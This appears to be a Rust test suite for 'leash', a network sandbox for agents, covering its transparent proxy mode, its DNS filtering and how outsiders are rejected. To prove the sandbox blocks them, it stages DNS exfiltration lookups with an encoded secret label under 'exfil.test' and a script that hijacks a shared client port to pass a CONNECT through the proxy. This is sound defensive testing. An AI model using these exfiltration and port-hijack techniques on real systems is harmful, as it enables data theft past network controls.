//! Transparent mode (`network: { transparent: true }`): clients that ignore `HTTPS_PROXY` — curl
//! with `--noproxy '*'`, Node 20's `fetch`, Python's `socket` — reach allowed names through the
//! kernel's redirect to the proxy, are judged exactly as a CONNECT would be (credentials swapped,
//! L7 rules, IP hosts), and reach nothing else. DNS from the sandbox goes to leash's resolver,
//! which answers allowed names only and forwards nothing: the network's resolver (the test's,
//! on its own loopback address; `leash_tests::dns`) is never asked a name the policy does not
//! allow, and a query sent straight to another address is answered by leash, never delivered.

use std::process::Output;

use leash_tests::dns::{leash_run_resolving, TestResolver};
use leash_tests::upstream::Upstream;
use leash_tests::*;

const SECRET: &str = "transparent-secret-9d41";

/// Transparent mode; `allowed.test:PORT` inspected with credential TOK bound to it, and
/// `rawtcp.test:RAW` tunnelled as plain TCP.
fn policy(port: u16, raw: u16) -> String {
    format!(
        "version: 1\nnetwork:\n  transparent: true\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      \
         - {{ host: allowed.test, port: {port}, protocol: rest, access: read-only, allowed_ips: [127.0.0.0/8] }}\n      \
         - {{ host: rawtcp.test, port: {raw}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n\
         credentials:\n  TOK: {{ hosts: [allowed.test] }}\n"
    )
}

fn run(scratch: &Scratch, up: &Upstream, raw: u16, script: &str) -> Output {
    let policy = scratch.file("policy.yaml", &policy(up.port(), raw));
    let creds = scratch.secret_file("credentials", &format!("TOK={SECRET}\n"));
    let audit = scratch.0.join("audit.jsonl");
    leash_run_resolving(
        &scratch.0,
        &policy,
        &[
            "--upstream-ca",
            up.ca_pem.to_str().unwrap(),
            "--credentials-file",
            creds.to_str().unwrap(),
            "--audit-log",
            audit.to_str().unwrap(),
        ],
        &["/bin/sh", "-c", script],
    )
}

fn describe(o: &Output) -> String {
    format!("status {:?}\nstdout:\n{}\nstderr:\n{}", o.status, stdout(o), stderr(o))
}

#[test]
fn names_resolve_only_when_allowed_and_no_query_leaves() {
    require_root();
    let up = Upstream::https();
    let scratch = Scratch::new("transparent-dns");
    // Another resolver address on loopback, where a query sent straight to it would land.
    let elsewhere = UdpSink::new("127.0.0.154:53");
    let queries = scratch.file(
        "queries.py",
        r#"import socket, struct

def query(name):
    q = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00\x00\x01\x00\x01'

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(query('direct.exfil.test'), ('127.0.0.154', 53))
data, source = s.recvfrom(512)
print('udp-direct rcode=%d from=%s' % (data[3] & 15, source[0]))
s.sendto(query('allowed.test'), ('127.0.0.154', 53))
data, source = s.recvfrom(512)
print('udp-allowed rcode=%d answers=%d addr=%s' % (data[3] & 15, data[7], '.'.join(map(str, data[-4:]))))
t = socket.create_connection(('127.0.0.154', 53), timeout=5)
m = query('tcp.exfil.test')
t.sendall(struct.pack('>H', len(m)) + m)
n = struct.unpack('>H', t.recv(2))[0]
data = t.recv(n)
print('tcp rcode=%d' % (data[3] & 15))
"#,
    );
    let script = format!(
        "getent hosts allowed.test; echo allowed=$?; getent hosts c2VjcmV0.exfil.test; echo exfil=$?; python3 {}",
        queries.display()
    );
    let out = run(&scratch, &up, 9, &script);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        text.contains("allowed=0") && text.contains("198.18."),
        "allowed.test must get a synthetic address: {}",
        describe(&out)
    );
    assert!(text.contains("exfil=2"), "getent must find no exfil name: {}", describe(&out));
    assert!(
        text.contains("udp-direct rcode=3 from=127.0.0.154"),
        "NXDOMAIN, shown as from the address asked: {}",
        describe(&out)
    );
    assert!(text.contains("udp-allowed rcode=0 answers=1 addr=198.18."), "{}", describe(&out));
    assert!(text.contains("tcp rcode=3"), "DNS over TCP is answered by leash too: {}", describe(&out));
    assert_eq!(
        TestResolver::get().asked_for("exfil"),
        Vec::<String>::new(),
        "a refused name reached the network's resolver"
    );
    assert_eq!(elsewhere.received(), 0, "a query sent straight to another resolver was delivered");
    assert!(stderr(&out).contains("refused dns c2vjcmv0.exfil.test"), "refusals are audited: {}", describe(&out));
    let audit = std::fs::read_to_string(scratch.0.join("audit.jsonl")).unwrap_or_default();
    assert!(audit.contains("\"class_name\":\"DNS Activity\""), "{audit}");
}

#[test]
fn clients_that_ignore_the_proxy_reach_allowed_names_and_nothing_else() {
    require_root();
    let up = Upstream::https();
    let raw = Listener::http("127.0.0.1:0", "raw-ok");
    let scratch = Scratch::new("transparent-clients");
    let p = up.port();
    let r = raw.addr.port();
    let script = format!(
        "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy ALL_PROXY all_proxy; \
         curl -sS --max-time 20 -H \"Authorization: Bearer $TOK\" https://allowed.test:{p}/curl; echo; \
         if curl -sSf --max-time 5 https://allowed.test:{p}/x -X POST >/dev/null 2>&1; then echo post=ok; else echo post=refused; fi; \
         if curl -sS --max-time 5 https://denied.test:{p}/ >/dev/null 2>&1; then echo denied-name=ok; else echo denied-name=refused; fi; \
         if curl -sS --max-time 5 https://127.0.0.1:{p}/ >/dev/null 2>&1; then echo ip=ok; else echo ip=refused; fi; \
         /usr/bin/node -e \"fetch('https://allowed.test:{p}/node', {{ headers: {{ authorization: 'Bearer ' + process.env.TOK }}, signal: AbortSignal.timeout(20000) }}).then(async r => console.log('node ' + r.status + ' ' + (await r.text()).length)).catch(e => console.log('node ERR ' + e.message))\"; \
         python3 -c \"import socket,ssl; c=ssl.create_default_context(); s=c.wrap_socket(socket.create_connection(('allowed.test',{p}),timeout=10),server_hostname='allowed.test'); s.sendall(b'GET /python HTTP/1.1\\r\\nHost: allowed.test:{p}\\r\\nConnection: close\\r\\n\\r\\n'); print('python', s.recv(12).decode())\"; \
         python3 -c \"import socket; s=socket.create_connection(('rawtcp.test',{r}),timeout=10); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('raw', s.makefile('rb').read().decode().split()[-1])\"; \
         python3 -c \"import socket,ssl; c=ssl.create_default_context(); c.check_hostname=False; s=c.wrap_socket(socket.create_connection(('allowed.test',{p}),timeout=10)); s.sendall(b'GET /no-sni HTTP/1.1\\r\\nHost: allowed.test:{p}\\r\\nConnection: close\\r\\n\\r\\n'); print('no-sni', s.recv(12).decode())\"; \
         python3 -c \"import socket; s=socket.create_connection(('allowed.test',{p}),timeout=10); s.sendall(b'\\x00\\x01not tls or http')\ntry: r = s.recv(10)\nexcept OSError: r = b''\nprint('garbage', repr(r))\"; \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1',{r}),timeout=5).recv(1) or print('raw-ip closed')\" 2>&1 | tail -1"
    );
    let out = run(&scratch, &up, r, &script);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    let curl: serde_json::Value = text
        .lines()
        .find(|l| l.starts_with('{'))
        .and_then(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| panic!("no JSON from the upstream: {}", describe(&out)));
    assert_eq!(curl["path"], "/curl", "{curl}");
    assert_eq!(curl["sni"], "allowed.test", "the proxy dials the name the synthetic address stands for: {curl}");
    assert!(up.received_text(&format!("Bearer {SECRET}")), "the credential was swapped in: {}", describe(&out));
    assert!(text.contains("post=refused"), "L7 rules apply (read-only): {}", describe(&out));
    assert!(text.contains("denied-name=refused"), "{}", describe(&out));
    assert!(text.contains("ip=refused"), "an IP literal is judged as an IP host: {}", describe(&out));
    assert!(text.contains("node 200"), "Node 20's fetch ignores HTTPS_PROXY: {}", describe(&out));
    assert!(text.contains("python HTTP/1.1 200"), "{}", describe(&out));
    assert!(text.contains("raw raw-ok"), "plain TCP to a protocol: tcp endpoint: {}", describe(&out));
    assert!(
        text.contains("no-sni HTTP/1.1 200"),
        "a ClientHello without SNI is judged by the address's name: {}",
        describe(&out)
    );
    assert!(
        text.contains("garbage b''"),
        "bytes neither TLS nor HTTP to a rest endpoint are refused: {}",
        describe(&out)
    );
    assert!(stderr(&out).contains("not_tls_or_http"), "and audited: {}", describe(&out));
    assert!(text.contains("raw-ip closed"), "an unlisted IP is refused at the proxy: {}", describe(&out));
    assert_eq!(raw.accepted(), 1, "only the allowed name reached the TCP listener: {}", describe(&out));
    let paths: Vec<String> = up.seen().iter().map(|s| s.target.clone()).collect();
    assert_eq!(
        paths,
        ["/curl", "/node", "/python", "/no-sni"],
        "only allowed requests reached the upstream: {}",
        describe(&out)
    );
    assert!(!stderr(&out).contains(SECRET), "{}", describe(&out));
    let audit = std::fs::read_to_string(scratch.0.join("audit.jsonl")).unwrap_or_default();
    assert!(!audit.contains(SECRET));
    assert!(audit.contains("\"client_mode\":\"redirected\""), "{audit}");
    assert!(stderr(&out).contains("refused dns denied.test"), "{}", describe(&out));
    assert!(stderr(&out).contains("denied proxy CONNECT 127.0.0.1"), "{}", describe(&out));
}

/// The transparent listener serves only connections the sandbox's kernel programs redirected:
/// another local user, and root, both outside the sandbox, connecting to it straight are closed
/// unread, even to a destination the sandbox may reach. (The agent learns the listener's port
/// from `getpeername` on its own redirected socket.)
#[test]
fn only_the_sandbox_can_use_its_transparent_listener() {
    use std::os::unix::process::CommandExt as _;
    use std::process::{Command, Stdio};
    require_root();
    let target = Listener::http("127.0.0.1:0", "reached");
    let scratch = Scratch::new("transparent-outsider");
    let t = target.addr.port();
    let policy = scratch.file(
        "policy.yaml",
        &format!(
            "version: 1\nnetwork:\n  transparent: true\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      \
             - {{ host: 127.0.0.1, port: {t}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n"
        ),
    );
    let port_file = scratch.0.join("port");
    let done = scratch.0.join("done");
    let agent = format!(
        "import os, socket, time\n\
         s = socket.create_connection(('127.0.0.1', {t}), timeout=10)\n\
         open('{port}.tmp', 'w').write(str(s.getpeername()[1])); os.rename('{port}.tmp', '{port}')\n\
         s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('agent', s.makefile('rb').read().decode().split()[-1])\n\
         for _ in range(200):\n    \
             if os.path.exists('{done}'): break\n    \
             time.sleep(0.05)\n",
        port = port_file.display(),
        done = done.display()
    );
    let child = leash(&["run", "--policy", policy.to_str().unwrap(), "--", "/usr/bin/python3", "-c", &agent])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(wait_until(10, || port_file.exists()), "the agent never connected");
    let listener = format!("127.0.0.1:{}", std::fs::read_to_string(&port_file).unwrap().trim());
    assert!(wait_until(10, || target.accepted() == 1), "the agent itself must reach the target");
    let probe = env!("CARGO_BIN_EXE_netprobe");
    let other_user = Command::new(probe).args(["direct-get", &listener]).uid(65534).gid(65534).output();
    let root = Command::new(probe).args(["direct-get", &listener]).output();
    std::fs::write(&done, "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(stdout(&out).contains("agent reached"), "{} {}", stdout(&out), stderr(&out));
    for (who, attempt) in [("another user", other_user), ("root outside the sandbox", root)] {
        let text = stdout(&attempt.unwrap());
        assert!(text.contains("GET 0"), "{who} was answered by the transparent listener at {listener}: {text}");
    }
    assert_eq!(target.accepted(), 1, "someone outside the sandbox reached the target through the listener");
    assert!(stderr(&out).contains("not from this sandbox"), "{}", stderr(&out));
}

/// `--learn` sees clients that ignore the proxy too: under learning every name resolves, the
/// redirected connection is learned like a CONNECT, and the learned policy replays the same
/// session with nothing denied.
#[test]
fn learning_sees_clients_that_ignore_the_proxy() {
    require_root();
    let up = Upstream::https();
    let scratch = Scratch::new("transparent-learn");
    let base = scratch.file("nothing.yaml", "version: 1\nnetwork_policies: {}\n");
    let learned = scratch.0.join("learned.yaml");
    let ca = up.ca_pem.to_str().unwrap().to_owned();
    let script =
        format!("unset HTTPS_PROXY https_proxy; curl -sSf --max-time 20 https://allowed.test:{}/learned", up.port());
    let cmd = ["/bin/sh", "-c", script.as_str()];
    let learn = ["--upstream-ca", &ca, "--learn", learned.to_str().unwrap(), "--learn-allow-private"];
    let out = leash_run_resolving(&scratch.0, &base, &learn, &cmd);
    assert!(out.status.success(), "learning run: {}", describe(&out));
    let text = std::fs::read_to_string(&learned).unwrap_or_else(|e| panic!("{e}: {}", describe(&out)));
    assert!(text.contains("host: 'allowed.test'") && text.contains(&format!("port: {}", up.port())), "{text}");
    let replay = leash_run_resolving(&scratch.0, &learned, &["--upstream-ca", &ca], &cmd);
    assert!(replay.status.success(), "replay under the learned policy:\n{text}\n{}", describe(&replay));
    assert!(stderr(&replay).contains("nothing was denied"), "{text}\n{}", describe(&replay));
    let paths: Vec<String> = up.seen().iter().map(|s| s.target.clone()).collect();
    assert_eq!(paths, ["/learned", "/learned"], "{}", describe(&replay));
}

/// `sshd` on loopback for the ssh test (killed on drop): host key, one authorized client key,
/// root login by key only, its log in `log`.
struct Sshd {
    child: std::process::Child,
    port: u16,
    log: std::path::PathBuf,
}

impl Sshd {
    fn start(scratch: &Scratch, client_pub: &std::path::Path) -> Self {
        let sshd = std::path::Path::new("/usr/sbin/sshd");
        assert!(sshd.exists(), "/usr/sbin/sshd is missing: install openssh-server (.ci/run does)");
        let host_key = scratch.0.join("host_key");
        keygen(&host_key);
        let authorized = scratch.0.join("authorized_keys");
        std::fs::copy(client_pub, &authorized).unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let config = scratch.file(
            "sshd_config",
            &format!(
                "Port {port}\nListenAddress 127.0.0.1\nHostKey {}\nPidFile none\nAuthorizedKeysFile {}\n\
                 PermitRootLogin prohibit-password\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n\
                 UsePAM no\nStrictModes no\nLogLevel INFO\n",
                host_key.display(),
                authorized.display()
            ),
        );
        std::fs::create_dir_all("/run/sshd").unwrap();
        let log = scratch.0.join("sshd.log");
        let child = std::process::Command::new(sshd)
            .args(["-D", "-e", "-f"])
            .arg(&config)
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .expect("starting sshd");
        assert!(
            wait_until(10, || std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()),
            "sshd never listened: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        Sshd { child, port, log }
    }

    fn logins(&self) -> usize {
        std::fs::read_to_string(&self.log).unwrap_or_default().matches("Accepted publickey").count()
    }
}

impl Drop for Sshd {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn keygen(path: &std::path::Path) {
    let out = std::process::Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(path)
        .output()
        .expect("running ssh-keygen");
    assert!(out.status.success(), "ssh-keygen: {}", stderr(&out));
}

/// ssh and `git clone ssh://` reach a local sshd under an allowed name through the redirect
/// (`protocol: tcp`), and neither an unlisted name nor the bare address reaches it.
#[test]
fn ssh_and_git_over_ssh_reach_allowed_names_only() {
    require_root();
    let scratch = Scratch::new("transparent-ssh");
    let key = scratch.0.join("client_key");
    keygen(&key);
    std::os::unix::fs::chown(&key, Some(65534), Some(65534)).unwrap();
    let sshd = Sshd::start(&scratch, &key.with_extension("pub"));
    let work = scratch.0.join("work");
    let repo = scratch.0.join("repo.git");
    std::fs::create_dir_all(&work).unwrap();
    git(&["init", "-q", "-b", "main", "."], &work);
    std::fs::write(work.join("README"), "cloned over ssh\n").unwrap();
    git(&["add", "README"], &work);
    git(&["commit", "-q", "-m", "first"], &work);
    git(&["clone", "-q", "--bare", work.to_str().unwrap(), repo.to_str().unwrap()], &scratch.0);
    let p = sshd.port;
    let policy = scratch.file(
        "policy.yaml",
        &format!(
            "version: 1\nnetwork_policies:\n  ssh:\n    name: ssh\n    endpoints:\n      \
             - {{ host: ssh.test, port: {p}, protocol: tcp, allowed_ips: [127.0.0.0/8] }}\n"
        ),
    );
    let ssh = format!(
        "ssh -i {} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=10 -o LogLevel=ERROR",
        key.display()
    );
    let script = format!(
        "{ssh} -p {p} root@ssh.test echo ssh-ok; \
         GIT_SSH_COMMAND='{ssh}' git clone -q ssh://root@ssh.test:{p}{repo} /tmp/clone && cat /tmp/clone/README; \
         {ssh} -p {p} root@other.test echo reached || echo other=refused; \
         {ssh} -p {p} root@127.0.0.1 echo reached || echo ip=refused",
        repo = repo.display()
    );
    let out = leash_run_resolving(&scratch.0, &policy, &[], &["/bin/sh", "-c", &script]);
    let text = stdout(&out);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(text.contains("ssh-ok"), "ssh to the allowed name: {}", describe(&out));
    assert!(text.contains("cloned over ssh"), "git clone over ssh: {}", describe(&out));
    assert!(text.contains("other=refused") && text.contains("ip=refused"), "{}", describe(&out));
    assert!(!text.contains("reached"), "{}", describe(&out));
    assert_eq!(sshd.logins(), 2, "only the two allowed sessions logged in");
}

/// The kernel lets two connections share a client port when they go to different ports: another
/// user's connection to the proxy's own port can hold the client port of a sandbox connection to
/// the transparent listener (red-team finding). It must not pass for the sandbox's. Run in a
/// network namespace of the test's own with four ephemeral ports, so the outsider gets the
/// sandbox's port within a few tries.
#[test]
fn a_client_port_shared_with_a_sandbox_connection_does_not_pass_for_the_sandbox() {
    require_root();
    let scratch = Scratch::new("transparent-shared-port");
    let dir = scratch.0.display().to_string();
    let policy = scratch.file(
        "policy.yaml",
        "version: 1\nnetwork_policies:\n  local:\n    name: local\n    endpoints:\n      \
         - { host: 127.0.0.1, port: 18090, protocol: tcp, allowed_ips: [127.0.0.0/8] }\n",
    );
    scratch.file(
        "agent.py",
        &format!(
            "import os, socket, time\n\
             s = socket.create_connection(('127.0.0.1', 18090), timeout=10)\n\
             proxy = os.environ['HTTP_PROXY'].rstrip('/').rsplit(':', 1)[1]\n\
             open('{dir}/hold.tmp', 'w').write('%d %s' % (s.getsockname()[1], proxy))\n\
             os.rename('{dir}/hold.tmp', '{dir}/hold')\n\
             while not os.path.exists('{dir}/done'):\n    time.sleep(0.05)\n"
        ),
    );
    scratch.file(
        "outsider.py",
        "import socket, struct, sys\n\
         proxy, hold = int(sys.argv[1]), int(sys.argv[2])\n\
         for i in range(5000):\n\
         \x20   s = socket.socket()\n\
         \x20   s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\n\
         \x20   try:\n\
         \x20       s.connect(('127.0.0.1', proxy))\n\
         \x20   except OSError:\n\
         \x20       s.close(); continue\n\
         \x20   if s.getsockname()[1] == hold:\n\
         \x20       s.sendall(b'CONNECT 127.0.0.1:18090 HTTP/1.1\\r\\nHost: 127.0.0.1:18090\\r\\n\\r\\n')\n\
         \x20       s.settimeout(5)\n\
         \x20       try:\n\
         \x20           r = s.recv(100)\n\
         \x20       except OSError:\n\
         \x20           r = b''\n\
         \x20       print('shared after', i, 'tries:', r.split(b'\\r\\n')[0].decode() or 'closed')\n\
         \x20       break\n\
         \x20   s.close()\n\
         else:\n\
         \x20   print('never shared')\n",
    );
    let script = format!(
        "ip link set lo up && echo '40000 40009' > /proc/sys/net/ipv4/ip_local_port_range || exit 1\n\
         /usr/bin/python3 -m http.server 18090 --bind 127.0.0.1 >/dev/null 2>&1 & server=$!\n\
         sleep 0.5\n\
         {leash} run --policy {policy} -- /usr/bin/python3 {dir}/agent.py & run=$!\n\
         i=0; while [ ! -e {dir}/hold ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done\n\
         read port proxy < {dir}/hold\n\
         setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 {dir}/outsider.py $proxy $port\n\
         touch {dir}/done; wait $run; kill $server\n",
        leash = leash_bin().display(),
        policy = policy.display()
    );
    let out = std::process::Command::new("unshare").args(["--net", "sh", "-c", &script]).output().expect("unshare");
    let text = stdout(&out);
    assert!(text.contains("shared after"), "the outsider never got the sandbox's port: {}", describe(&out));
    assert!(
        !text.contains("200"),
        "a connection sharing the sandbox's client port was served as the sandbox's: {}",
        describe(&out)
    );
    assert!(stderr(&out).contains("not from this sandbox"), "{}", describe(&out));
}

/// The UDP port leash (process `pid`) has bound on 127.0.0.1: its resolver's.
fn resolver_port(pid: u32) -> Option<u16> {
    let inodes: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .ok()?
        .flatten()
        .filter_map(|e| std::fs::read_link(e.path()).ok())
        .filter_map(|l| l.to_str()?.strip_prefix("socket:[")?.strip_suffix(']').map(str::to_owned))
        .collect();
    let table = std::fs::read_to_string(format!("/proc/{pid}/net/udp")).ok()?;
    table.lines().skip(1).find_map(|line| {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let (addr, port) = fields.get(1)?.split_once(':')?;
        (addr == "0100007F" && inodes.iter().any(|i| Some(&i.as_str()) == fields.get(9)))
            .then(|| u16::from_str_radix(port, 16).ok())?
    })
}

/// leash's resolver answers its own sandbox only: another user, and root, asking it straight
/// (the way to fill its name table, or to learn the policy's names) get no answer, while the
/// agent's queries are answered.
#[test]
fn the_resolver_answers_only_its_sandbox() {
    use std::os::unix::process::CommandExt as _;
    use std::process::{Command, Stdio};
    require_root();
    let up = Upstream::https();
    let scratch = Scratch::new("transparent-resolver-outsider");
    let policy = scratch.file("policy.yaml", &policy(up.port(), 9));
    let (ready, done) = (scratch.0.join("ready"), scratch.0.join("done"));
    let script = format!(
        "getent hosts allowed.test; touch {}; while [ ! -e {} ]; do sleep 0.05; done; getent hosts allowed.test",
        ready.display(),
        done.display()
    );
    let child = leash_tests::dns::leash_resolving(&scratch.0, &policy, &[], &["/bin/sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(wait_until(10, || ready.exists()), "the agent never started");
    let port = resolver_port(child.id()).expect("leash's resolver socket");
    let probe = env!("CARGO_BIN_EXE_netprobe");
    let target = format!("127.0.0.1:{port}");
    let other_user = Command::new(probe).args(["dns", &target, "allowed.test"]).uid(65534).gid(65534).output();
    let root = Command::new(probe).args(["dns", &target, "allowed.test"]).output();
    std::fs::write(&done, "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(stdout(&out).matches("allowed.test").count(), 2, "the agent's own queries: {}", describe(&out));
    for (who, attempt) in [("another user", other_user), ("root outside the sandbox", root)] {
        let text = stdout(&attempt.unwrap());
        assert!(!text.contains("dns rcode"), "{who} was answered by the sandbox's resolver at {target}: {text}");
    }
}

/// The resolver answered a datagram from any client port the sandbox had once sent from: its
/// record was keyed by the ports alone and outlived the socket. Another local user bound that
/// port once the agent's lookup was over, and was answered as the sandbox (the way to fill its
/// name table, or to learn the policy's names). The record goes with the socket now.
#[test]
fn a_client_port_the_sandbox_gave_up_is_not_answered_as_the_sandbox() {
    use std::os::unix::process::CommandExt as _;
    use std::process::{Command, Stdio};
    require_root();
    let up = Upstream::https();
    let scratch = Scratch::new("transparent-resolver-port");
    let policy = scratch.file("policy.yaml", &policy(up.port(), 9));
    let (ready, done) = (scratch.0.join("ready"), scratch.0.join("done"));
    let port = std::net::UdpSocket::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let probe = env!("CARGO_BIN_EXE_netprobe");
    let script = format!(
        "{probe} dns {resolver}:53 allowed.test 0.0.0.0:{port}; touch {}; while [ ! -e {} ]; do sleep 0.05; done",
        ready.display(),
        done.display(),
        resolver = leash_tests::dns::RESOLVER,
    );
    let child = leash_tests::dns::leash_resolving(&scratch.0, &policy, &[], &["/bin/sh", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(wait_until(10, || ready.exists()), "the agent never started");
    let resolver = resolver_port(child.id()).expect("leash's resolver socket");
    let target = format!("127.0.0.1:{resolver}");
    let from = format!("127.0.0.1:{port}");
    let other_user =
        Command::new(probe).args(["dns", &target, "allowed.test", &from]).uid(65534).gid(65534).output().unwrap();
    std::fs::write(&done, "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(stdout(&out).contains("dns rcode=0 answers=1"), "control: the agent's lookup: {}", describe(&out));
    let text = stdout(&other_user);
    assert!(!text.contains("dns rcode"), "another user on the sandbox's old client port {port} was answered: {text}");
}
